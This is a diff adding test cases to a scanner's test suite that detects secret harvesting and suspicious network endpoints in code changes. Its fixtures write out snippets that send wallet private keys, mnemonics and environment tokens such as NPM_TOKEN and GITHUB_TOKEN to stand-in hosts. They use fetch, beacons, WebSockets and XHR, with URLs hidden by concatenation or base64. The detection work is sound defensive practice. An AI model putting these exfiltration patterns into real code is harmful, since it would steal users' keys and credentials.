@@ -3801,6 +3801,69 @@ describe('secret-harvesting: a private key handed to a request, in Go and Rust',
   });
 });
 
+describe('secret-harvesting: a private key in a request written over several lines, to a URL kept in a name, a beacon or a socket', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'perf: key handling').find((f) => f.id === 'secret-harvesting');
+  const keypair = (body: string[]) => ["import { Keypair } from '@solana/web3.js';", 'export async function load(secretKey: Uint8Array) {', '  const kp = Keypair.fromSecretKey(secretKey);', ...body, '  return kp;', '}'];
+  it('reads the body three lines below fetch(, axios.post( or requests.post(', () => {
+    expect(sent('src/keypair.ts', keypair(["  await fetch('https://sol-rpc-metrics.example/v1', {", "    method: 'POST',", "    body: JSON.stringify({ key: Buffer.from(secretKey).toString('hex') }),", '  });']))).toMatchObject({ severity: 'high', line: 16 });
+    expect(sent('src/wallet.js', ["const bip39 = require('bip39');", 'async function restore(mnemonic) {', '  await axios.post(', "    'https://wallet-sync.example/api',", '    { m: mnemonic },', '  );', '}'])?.line).toBe(15);
+    expect(sent('pkg/wallet.py', ['from eth_account import Account', 'def load(private_key):', '    acct = Account.from_key(private_key)', '    requests.post(', "        'https://eth-metrics.example/c',", "        json={'k': private_key},", '    )', '    return acct'])?.line).toBe(16);
+    expect(sent('src/keypair.ts', keypair(['  await got.post({', "    url: 'https://sol-rpc-metrics.example/v1',", '    json: { secretKey: Array.from(secretKey) },', '  });']))?.line).toBe(16);
+  });
+  it('follows the URL into a name of the file, built by concatenation or a template', () => {
+    const wallet = (url: string[], call: string) => ['import { Wallet } from "ethers";', ...url, 'export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', call, '  return wallet;', '}'];
+    expect(sent('src/wallet.ts', wallet(["const SINK = 'https://metrics-cdn.example/collect';"], "  fetch(SINK, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+    expect(sent('src/wallet.ts', wallet(["const HOST = 'metrics-' + 'cdn.example';", "const BASE = 'https://' + HOST;"], "  fetch(`${BASE}/collect`, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+    expect(sent('src/wallet.ts', wallet(["const SINK = atob('aHR0cHM6Ly9tZXRyaWNzLWNkbi5leGFtcGxlL2NvbGxlY3Q=');"], "  fetch(SINK, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+    expect(sent('src/wallet.ts', wallet(["const SINK = ['https://', 'metrics-cdn', '.example/c'].join('');"], "  fetch(SINK, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+  });
+  it('reads an image beacon, sendBeacon, location and a socket or XMLHttpRequest opened to a URL', () => {
+    const wallet = (body: string[]) => ['export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', ...body, '  return wallet;', '}'];
+    expect(sent('src/wallet.ts', wallet(["  new Image().src = 'https://px.example.dev/p?k=' + encodeURIComponent(privateKey);"]))?.line).toBe(13);
+    expect(sent('src/wallet.ts', wallet(["  const img = document.createElement('img');", "  img.src = 'https://px.example.dev/p?k=' + privateKey;"]))?.line).toBe(14);
+    expect(sent('src/wallet.ts', ["const COLLECT = 'https://px.example.dev/p';", ...wallet(['  navigator.sendBeacon(COLLECT, privateKey);'])])?.line).toBe(14);
+    expect(sent('src/wallet.ts', wallet(["  window.location.href = 'https://px.example.dev/p?k=' + privateKey;"]))?.line).toBe(13);
+    expect(sent('src/wallet.ts', wallet(["  const ws = new WebSocket('wss://xrpl-status.example/s');", '  ws.onopen = () => ws.send(JSON.stringify({ privateKey }));']))?.detail).toContain('to xrpl-status.example');
+    expect(sent('src/wallet.ts', wallet(['  const xhr = new XMLHttpRequest();', "  xhr.open('POST', 'https://px.example.dev/p');", '  xhr.send(privateKey);']))?.line).toBe(15);
+    expect(sent('pkg/wallet.py', ['from eth_account import Account', 'def load(private_key):', '    acct = Account.from_key(private_key)', "    ws = websocket.create_connection('wss://eth-status.example/s')", '    ws.send(private_key)'])?.line).toBe(15);
+  });
+  it('reads a request builder written one call a line (reqwest, superagent) and Python\'s url= keyword', () => {
+    expect(sent('src/wallet.rs', ['use solana_sdk::signature::Keypair;', 'const SINK: &str = "https://sol-metrics.example/v1";', 'pub fn load(bytes: &[u8], secret_key: &[u8]) -> Keypair {', '    let keypair = Keypair::from_bytes(bytes).unwrap();', '    let _ = reqwest::blocking::Client::new()', '        .post(SINK)', '        .body(bs58::encode(secret_key).into_string())', '        .send();', '    keypair', '}'])?.line).toBe(17);
+    expect(sent('src/w.js', ['const wallet = ethers.Wallet.fromPhrase(mnemonic);', 'superagent', "  .post('https://x-metrics.example/c')", '  .send({ mnemonic })', '  .end(() => undefined);'])?.line).toBe(14);
+    expect(sent('pkg/w.py', ['from eth_account import Account', "SINK = 'https://eth-metrics.example/c'", 'def load(private_key):', '    acct = Account.from_key(private_key)', "    requests.post(url=SINK, json={'k': private_key}, timeout=3)", '    return acct'])?.line).toBe(15);
+    expect(sent('src/w.js', ['const wallet = ethers.Wallet.fromPhrase(mnemonic);', 'superagent', "  .post('https://rpc.example.dev/c')", '  .send({ address: wallet.address })', '  .then((r) => store(mnemonic));'])).toBeUndefined();
+  });
+  it('a function the change defines that sends over several lines is a sender', () => {
+    expect(sent('src/keypair.ts', keypair(['  report(secretKey);', '}', 'function report(k: Uint8Array) {', '  return fetch(', "    'https://sol-rpc-metrics.example/v1',", "    { method: 'POST', body: k },", '  );']))?.title).toBe('A private key is handed to report(), which sends it to a host');
+  });
+  it('is quiet on a signed transaction, a public key, a chat message, a route handler, a callback, a bearer header, or a key after the request', () => {
+    expect(sent('src/transfer.ts', ["const RPC = 'https://rpc.chain.example';", 'export async function send(privateKey: string, tx: Tx) {', '  const wallet = new Wallet(privateKey);', '  const signed = await wallet.signTransaction(tx);', '  return fetch(RPC, {', "    method: 'POST',", "    body: JSON.stringify({ method: 'eth_sendRawTransaction', params: [signed] }),", '  });', '}'])).toBeUndefined();
+    expect(sent('src/register.ts', ["const API = 'https://faucet.example.dev/api';", 'export async function register(keypair: Keypair) {', '  await fetch(`${API}/register`, {', "    method: 'POST',", '    body: JSON.stringify({ publicKey: keypair.publicKey.toBase58(), address: addressOf(secretKey) }),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/chat.ts', ['const wallet = useWallet();', "const ws = new WebSocket('wss://chat.example.dev/room');", 'ws.onopen = () => ws.send(JSON.stringify({ from: wallet.address, text: message }));'])).toBeUndefined();
+    expect(sent('src/server.ts', ["import { Wallet } from 'ethers';", "app.post('/import', async (req, res) => {", '  const { mnemonic } = req.body;', '  const wallet = Wallet.fromPhrase(mnemonic);', '  res.json({ address: wallet.address });', '});'])).toBeUndefined();
+    expect(sent('src/node.js', ["const { Keypair } = require('@solana/web3.js');", "request.post({ url: 'https://rpc.example.dev', json: tx }, (err, res) => {", '  if (err) return;', '  const kp = Keypair.fromSecretKey(secretKey);', '});'])).toBeUndefined();
+    expect(sent('src/exchange.ts', ['const wallet = new Wallet(pk);', "await fetch('https://api.exchange.dev/v3/order', {", "  method: 'POST',", '  headers: { Authorization: `Bearer ${this.secretKey}` },', '  body: query,', '});'])).toBeUndefined();
+    expect(sent('src/keys.ts', ['const wallet = Keypair.generate();', "await fetch('https://stats.example.dev/ping', { method: 'POST', body: 'x' });", 'const kp = Keypair.fromSecretKey(secretKey);'])).toBeUndefined();
+    expect(sent('src/keys.ts', ['const wallet = Keypair.generate();', 'await fetch(`${this.baseUrl}/keys`, {', "  method: 'POST',", '  body: JSON.stringify({ secretKey }),', '});'])).toBeUndefined();
+  });
+  it('follows the key into a name it is copied or encoded into, sent later', () => {
+    expect(sent('src/wallet.ts', ["const SINK = 'https://metrics-cdn.example/collect';", 'export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', '  const payload = { k: privateKey, ts: Date.now() };', '  fetch(SINK, {', "    method: 'POST',", '    body: JSON.stringify(payload),', '  });', '  return wallet;', '}'])).toMatchObject({ line: 17 });
+    expect(sent('src/wallet.ts', ["const SINK = 'https://metrics-cdn.example/collect';", 'export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', '  const payload = { k: privateKey };', "  fetch(SINK, { method: 'POST', body: JSON.stringify(payload) });", '}'])?.detail).toContain('through payload');
+    expect(sent('src/keypair.ts', ["import { Keypair } from '@solana/web3.js';", 'export function load(secretKey: Uint8Array) {', "  const hex = Buffer.from(secretKey).toString('hex');", "  navigator.sendBeacon('https://px.example.dev/b', hex);", '  return Keypair.fromSecretKey(secretKey);', '}'])?.line).toBe(14);
+    expect(sent('src/w.js', ['const wallet = ethers.Wallet.createRandom();', 'const pk = wallet.privateKey;', "axios.post('https://x.example.dev/c', { pk });"])?.line).toBe(13);
+    expect(sent('src/load.ts', ["import bs58 from 'bs58';", "const DIAG = 'https://diag.example.dev/v1';", 'const keypair = Keypair.generate();', 'const diagnostics = {', '  platform: process.platform,', '  wallet: bs58.encode(keypair.secretKey),', '};', 'void axios', '  .post(DIAG, diagnostics)', '  .catch(() => undefined);'])?.line).toBe(19);
+  });
+  it('is quiet on an object made from the key, one field of a name read, or the key only tested', () => {
+    expect(sent('src/w.ts', ["const RPC = 'https://rpc.example.dev';", 'const signer = new Wallet(privateKey, provider);', 'await fetch(RPC, {', "  method: 'POST',", '  body: JSON.stringify({ from: signer.address, data }),', '});'])).toBeUndefined();
+    expect(sent('src/w.ts', ['const kp = { publicKey: pub, secretKey: sec };', "await fetch('https://faucet.example.dev/r', {", "  method: 'POST',", '  body: JSON.stringify({ address: kp.publicKey }),', '});'])).toBeUndefined();
+    expect(sent('src/w.ts', ['const signer = privateKey ? new Wallet(privateKey) : undefined;', 'const ready = !!privateKey && connected;', "await fetch('https://rpc.example.dev', { method: 'POST', body: JSON.stringify({ ready, signer: signer?.address }) });"])).toBeUndefined();
+    expect(sent('src/w.ts', ['const kp = Keypair.fromSecretKey(secretKey);', "await fetch('https://rpc.example.dev', { method: 'POST', body: JSON.stringify({ kp: kp.publicKey.toBase58() }) });"])).toBeUndefined();
+  });
+  it('is quiet in a test that mocks fetch', () => {
+    expect(sent('test/wallet.test.ts', ['const wallet = Keypair.generate();', "fetchMock.post('https://rpc.example.dev', 200);", "await fetch('https://rpc.example.dev', {", "  method: 'POST',", '  body: JSON.stringify({ secretKey: wallet.secretKey }),', '});'])).toBeUndefined();
+  });
+});
+
 describe('false alarms from C++, Python and Go projects (2026-11-28)', () => {
   const claimIn = (path: string, patch: string, title: string): string[] => scan([makeFile(path, { patch })], title).filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.path);
   const code = hunk(['    return write(ctx.out(), value);'], ['    auto out = ctx.out();']);
@@ -4830,6 +4893,33 @@ describe('pr-claim-mismatch over a bare host name swapped in an allow-list', () 
     expect(claimOf(['log = logging.getLogger("app.viewz")'], ['log = logging.getLogger("app.views")'])).toBeUndefined();
     expect(claimOf(['CONFIG = "setup.cfg"'], ['CONFIG = "setup.cgf"'])).toBeUndefined();
     expect(claimOf(['MSG = "Write to help.acme-support.com for help"'], ['MSG = "Write to help.acme.com for help"'])).toBeUndefined();
+  });
+});
+
+describe('suspicious-network-endpoint: a secret in a request written over several lines, to a URL a name holds, a beacon or a socket (since 2026-12-02)', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'chore: usage stats').find((f) => f.id === 'suspicious-network-endpoint');
+  const pad = ['const a = 1;', 'const b = 2;', 'const c = 3;', 'const d = 4;', 'const e = 5;'];
+  it('reads the name in the body lines below the call, the URL in a constant far above or built by concatenation', () => {
+    expect(sent('src/postinstall.js', ['function go() {', '  const token = process.env.NPM_TOKEN;', '  const host = os.hostname();', '  const user = os.userInfo().username;', '  const cwd = process.cwd();', '  const plat = process.platform;', "  return fetch('https://npm-stats.dev/c', {", "    method: 'POST',", '    body: JSON.stringify({ token, host, user, cwd, plat }),', '  });', '}'])).toMatchObject({ severity: 'critical', line: 19 });
+    expect(sent('src/postinstall.js', ["const SINK = 'https://npm-stats.dev/c';", ...pad, 'function go() {', '  const token = process.env.NPM_TOKEN;', "  fetch(SINK, { method: 'POST', body: token });", '}'])).toMatchObject({ severity: 'critical', line: 19 });
+    expect(sent('src/postinstall.js', ["const HOST = 'gh-' + 'metrics.dev';", "const URL_ = 'https://' + HOST + '/c';", ...pad, 'function go() {', "  fetch(URL_, { method: 'POST', body: process.env.GITHUB_TOKEN });", '}'])?.title).toBe('A secret named for another service is sent to gh-metrics.dev');
+    // Every secret the line carries is judged: NPM_TOKEN's host may pass for npm's, GITHUB_TOKEN's is not GitHub's.
+    expect(sent('src/usage.js', ['const npm = process.env.NPM_TOKEN;', 'const gh = process.env.GITHUB_TOKEN;', ...pad, "await fetch('https://npm-registry-metrics.com/u', {", "  method: 'POST',", '  body: JSON.stringify({ npm, gh }),', '});'])?.detail).toContain('GITHUB_TOKEN');
+    expect(sent('pkg/hook.py', ['SINK = "https://gh-stats.dev/c"', 'A = 1', 'B = 2', 'C = 3', 'D = 4', 'def run():', '    tok = os.environ.get("GITHUB_TOKEN")', '    x = 1', '    y = 2', '    z = 3', '    w = 4', '    requests.post(', '        SINK,', "        json={'t': tok},", '    )'])?.line).toBe(24);
+  });
+  it('reads an image beacon, sendBeacon and a WebSocket written to', () => {
+    expect(sent('src/track.js', ['const t = process.env.NPM_TOKEN;', "new Image().src = 'https://px.stats-cdn.dev/p?k=' + encodeURIComponent(t);"])?.line).toBe(12);
+    expect(sent('src/track.js', ["const COLLECT = 'https://px.stats-cdn.dev/p';", ...pad, 'const t = process.env.NPM_TOKEN;', 'navigator.sendBeacon(COLLECT, t);'])?.line).toBe(18);
+    expect(sent('src/track.js', ['const t = process.env.AWS_SECRET_ACCESS_KEY;', "const ws = new WebSocket('wss://px.stats-cdn.dev/s');", 'ws.onopen = () => ws.send(JSON.stringify({ t }));'])?.line).toBe(13);
+  });
+  it('stays quiet on a token in a headers object over several lines, a client secret posted to a token endpoint, telemetry with no secret, and a token sent to its own service', () => {
+    expect(sent('src/logs.js', ["const INTAKE = 'https://intake.logs-relay.example-logs.com/v1';", ...pad, 'export async function ship(batch) {', '  const key = process.env.DATADOG_API_KEY;', '  return fetch(INTAKE, {', "    method: 'POST',", '    headers: {', "      'DD-API-KEY': key,", "      'Content-Type': 'application/json',", '    },', '    body: JSON.stringify(batch),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/auth.js', ["const TOKEN_URL = 'https://github.com/login/oauth/access_token';", ...pad, 'export async function exchange(code) {', '  const secret = process.env.GITHUB_CLIENT_SECRET;', '  return fetch(TOKEN_URL, {', "    method: 'POST',", '    body: new URLSearchParams({ client_id: id, client_secret: secret, code }),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/telemetry.js', ["const ENDPOINT = 'https://telemetry.acme-sdk.dev/v1/events';", 'const token = process.env.ACME_SDK_TOKEN;', 'export function track(event) {', '  navigator.sendBeacon(ENDPOINT, JSON.stringify({ event, version: VERSION }));', '}'])).toBeUndefined();
+    expect(sent('src/slack.js', ["const API = 'https://slack.com/api/chat.postMessage';", ...pad, 'export async function post(channel, text) {', '  const token = process.env.SLACK_BOT_TOKEN;', '  await fetch(API, {', "    method: 'POST',", '    body: JSON.stringify({ token, channel, text }),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/w.js', ['const t = process.env.NPM_TOKEN;', 'superagent', "  .post('https://npm-metrics-cdn.com/c')", "  .set('PRIVATE-TOKEN', t)", '  .send({ ok: 1 });'])).toBeUndefined();
+    expect(sent('src/w.js', ['const t = process.env.NPM_TOKEN;', 'superagent', "  .post('https://npm-metrics-cdn.com/c')", '  .send({ t })', '  .end();'])?.severity).toBe('critical');
+    expect(sent('src/client.ts', ['export class Client {', '  async user() {', '    const token = process.env.NPM_TOKEN;', '    return fetch(`${this.baseUrl}/user`, {', '      method: "POST",', '      body: JSON.stringify({ token }),', '    });', '  }', '}'])).toBeUndefined();
   });
 });
 
